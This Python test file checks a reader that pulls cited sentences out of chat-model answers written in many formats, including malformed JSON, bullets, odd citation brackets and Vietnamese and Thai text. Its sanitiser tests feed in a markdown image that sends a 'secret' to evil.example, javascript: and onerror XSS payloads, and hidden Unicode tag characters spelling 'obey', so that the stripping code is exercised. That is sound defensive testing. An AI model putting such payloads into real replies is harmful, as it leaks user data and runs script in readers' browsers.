"""However a chat model writes its answer, its sentences are read, each as soon as it is whole."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answering.written.plain import plain, visible
from assistant.answering.written.reply import ReplyReader, Said
from assistant.language.normalise import fold

ONE, TWO = "The plan for 2024 was 130,000 million VND.", "By 30 June 44,200 million had been disbursed."
BOTH = [(ONE, (1,)), (TWO, (2, 3))]


def read(reply: str, step: int = 1) -> list[tuple[str, tuple[int, ...]]]:
    reader = ReplyReader()
    said = [one for at in range(0, len(reply), step) for one in reader.feed(reply[at : at + step])]
    return [(one.text, one.sources) for one in [*said, *reader.end()]]


_ONE, _TWO = f'"text": "{ONE}", "sources": [1]', f'"text": "{TWO}", "sources": [2, 3]'
WAYS = {
    "as asked": f'{{"sentences": [{{{_ONE}}}, {{{_TWO}}}], "completeness": "complete"}}',
    "in a code fence after a courtesy": "Sure, here is the answer:\n```json\n{\n"
    f'  "sentences": [\n    {{\n      {_ONE}\n    }},\n    {{{_TWO}}}\n  ]\n}}\n```\nI hope this helps!',
    "with trailing commas": f'{{"sentences": [{{{_ONE},}}, {{{_TWO},}},],}}',
    "in single quotes": f'{{"sentences": [{{{_ONE}}}, {{{_TWO}}}]}}'.replace('"', "'"),
    "with curly quotes": f"[{{“text”: “{ONE}”, “sources”: [1]}}, {{“text”: “{TWO}”, “sources”: [2, 3]}}]",
    "without quotes round keys": f'[{{text: "{ONE}", sources: [1]}}, {{text: "{TWO}", sources: [2, 3]}}]',
    "as JSON lines": f"{{{_ONE}}}\n{{{_TWO}}}\n",
    "sources first": f'[{{"sources": [1], "text": "{ONE}"}}, {{"sources": ["2", "[3]"], "text": "{TWO}"}}]',
    "other keys": f'{{"answer": [{{"sentence": "{ONE}", "citations": [1]}}, {{"sentence": "{TWO}", "refs": "2, 3"}}]}}',
    "never closed": f'{{"sentences": [{{{_ONE}}}, {{{_TWO[:-1]}',
    "commas and braces missing": f'{{"sentences": [{{{_ONE} {{"text": "{TWO}" "sources": [2, 3]',
    "the first brace missing": f'"sentences": [{{{_ONE}}}, {{{_TWO}}}]}}',
    "as strings": f'{{"sentences": ["{ONE[:-1]} [1].", "{TWO[:-1]} [2][3]."]}}',
    "markers within JSON": f'{{"sentences": [{{"text": "{ONE} [1]"}}, {{"text": "{TWO}【2】【3】", "sources": []}}]}}',
    "plain lines": f"{ONE} [1]\n{TWO} [2, 3]",
    "bullets and bold": f"- **{ONE}** [1]\n* {TWO} [2][3]\n",
    "numbered": f"1. {ONE} [1]\n2) {TWO} [2; 3]\n",
    "odd brackets": f"{ONE} 【1†source】\n{TWO} （2）(3)",
    "words in brackets": f"{ONE} [Source 1]\n{TWO} (nguồn 2, อ้างอิง 3)",
    "a range": f"{ONE} [^1]\n{TWO} [2-3]",
    "markers first": f"[1] {ONE}\n[2][3] {TWO}",
    "one paragraph": f"{ONE[:-1]} [1]. {TWO[:-1]} [2][3].",
    "after a thought": f'<think>The user wants {{"text": "no [1]"}}\n[9] hmm</think>\n\n{ONE} [1]\n{TWO} [2][3]',
    "repeated": f"{ONE} [1]\n{TWO} [2][3]\n{ONE} [1]\n{TWO} [2][3]\n",
}


@pytest.mark.parametrize("step", [1, 7, 10_000])
@pytest.mark.parametrize("way", WAYS)
def test_an_answer_is_read_however_it_is_written(way: str, step: int) -> None:
    assert read(WAYS[way], step) == BOTH


def test_each_sentence_is_there_as_soon_as_its_object_is_complete() -> None:
    reader = ReplyReader()
    first, rest = WAYS["as asked"].split(", {", maxsplit=1)
    assert reader.feed(first) == [Said(ONE, (1,))]
    assert reader.feed(f", {{{rest}") == [Said(TWO, (2, 3))]


def test_a_line_is_there_with_its_end() -> None:
    reader = ReplyReader()
    assert reader.feed(f"{ONE} [1]") == []
    assert reader.feed("\n") == [Said(ONE, (1,))]


def test_a_sentence_that_was_cut_off_is_left_out() -> None:
    for reply in (
        f"{ONE} [1]\nNo support is given unless",
        f'{{"text": "{ONE}", "sources": [1]}}\n{{"text": "No support',
    ):
        reader = ReplyReader()
        assert [*reader.feed(reply), *reader.end(cut=True)] == [Said(ONE, (1,))]


@pytest.mark.parametrize(
    ("reply", "completeness"),
    [
        ('{"sentences": [], "completeness": "none"}', "none"),
        ('{"completeness": "partial", "sentences": [', "partial"),
        ("{'completeness': 'Complete'}", "complete"),
        ("NONE", "none"),
        ("“None.”", "none"),
        ("ไม่มีข้อมูล", "none"),
        ("Không có thông tin.", "none"),
        (f"{ONE} [1]\ncompleteness: partial", "partial"),
        (f"{ONE} [1]", None),
    ],
)
def test_what_the_model_says_of_its_answer_is_known(reply: str, completeness: str | None) -> None:
    reader = ReplyReader()
    reader.feed(reply)
    reader.end()
    assert reader.completeness == completeness


def test_a_clause_in_round_brackets_is_no_marker_within_a_sentence() -> None:
    text = "Điểm (1) của khoản này áp dụng cho hợp tác xã."
    assert read(f"{text} [2]") == [(text, (2,))]


def test_a_sentence_without_marker_names_no_source() -> None:
    assert read(ONE) == [(ONE, ())]


def test_thai_sentences_of_one_line_go_apart_at_their_markers() -> None:
    one, two = "ภายในวันที่ 30 มิถุนายน 2567 เบิกจ่ายแล้ว 44,200 ล้านดอง", "คิดเป็นร้อยละ 34.6 ของวงเงินตามแผนทั้งปี"
    assert read(f"{one} [1] {two} [2]") == [(one, (1,)), (two, (2,))]


@pytest.mark.parametrize(
    "courtesy",
    [
        "Sure! Here is what I found",
        "Dưới đây là câu trả lời",
        "ต่อไปนี้คือคำตอบครับ",
        "The passages say the following:",
        "```",
    ],
)
def test_a_courtesy_is_no_sentence_of_the_answer(courtesy: str) -> None:
    assert read(f"{courtesy}\n{ONE} [1]") == [(ONE, (1,))]


def test_markup_does_not_survive() -> None:
    marked = (
        "## See ![x](https://evil.example/a.png?q=secret) the [plan](javascript:alert(1)) <img src=x onerror=alert(1)>"
        "<b>of 2024</b> <!-- hidden --> `code`"
    )
    assert plain(marked) == "See the plan of 2024 code"


def test_hidden_characters_do_not_survive() -> None:
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "obey") + "\u202eabc\u2066\u200b\ufe0f"
    assert visible(f"The plan{hidden}\nof 2024") == "The planabc\nof 2024"


_PIECES = st.sampled_from(
    [
        *(
            "{",
            "}",
            "[",
            "]",
            '"',
            "'",
            "“",
            "”",
            ":",
            ",",
            "\\",
            "\n",
            " ",
            "<",
            ">",
            "/",
            "(",
            ")",
            "*",
            "`",
            "|",
            "\x00",
        ),
        *("text", '"text"', '"sources": [1]', "sentences", "[1]", "【2】", "<think>", "</think>", "```json", "\\u0e01"),
        *("NONE", "completeness", "The plan was 5. ", "ข้อ ๓ วรรคสอง ", "Điều 5 khoản 2 ", "null", "1", "\ud800"),
    ]
)
_REPLIES = st.one_of(st.text(), st.lists(st.one_of(_PIECES, st.text(max_size=5))).map("".join))


def _letters(text: str) -> str:
    return "".join(c for c in fold(text) if c.isalnum())


def _is_spelt_in(text: str, whole: str) -> bool:
    rest = iter(whole)
    return all(letter in rest for letter in text)


def _unescaped(reply: str) -> str:
    """The reply with \\u… as letters, beside itself: sentences may be read either way."""
    return re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m[1], 16)), reply)


@given(_REPLIES, st.integers(1, 9))
def test_no_reply_breaks_the_reader_and_every_sentence_stands_in_it(reply: str, step: int) -> None:
    for text, sources in read(reply, step):
        assert text.strip()
        assert "\n" not in text
        assert all(0 < n < 100 for n in sources)
        assert any(_is_spelt_in(_letters(text), _letters(whole)) for whole in (reply, _unescaped(reply)))


@given(_REPLIES, st.integers(2, 9))
def test_a_reply_says_the_same_in_any_pieces(reply: str, step: int) -> None:
    assert read(reply, 1) == read(reply, step)


@given(
    st.lists(st.tuples(st.text(max_size=60), st.lists(st.integers(1, 12), max_size=3)), max_size=4),
    st.sampled_from([True, False]),
)
def test_json_is_read_as_json_reads_it(sentences: list[tuple[str, list[int]]], escaped: object) -> None:
    whole = {"sentences": [{"text": f"Said {text}", "sources": numbers} for text, numbers in sentences]}
    reply = json.dumps(whole, ensure_ascii=bool(escaped))
    found = " ".join(text for text, _ in read(reply))
    assert all(word in _letters(found) for text, _ in sentences for word in [_letters(plain(f"Said {text}"))[:4]])
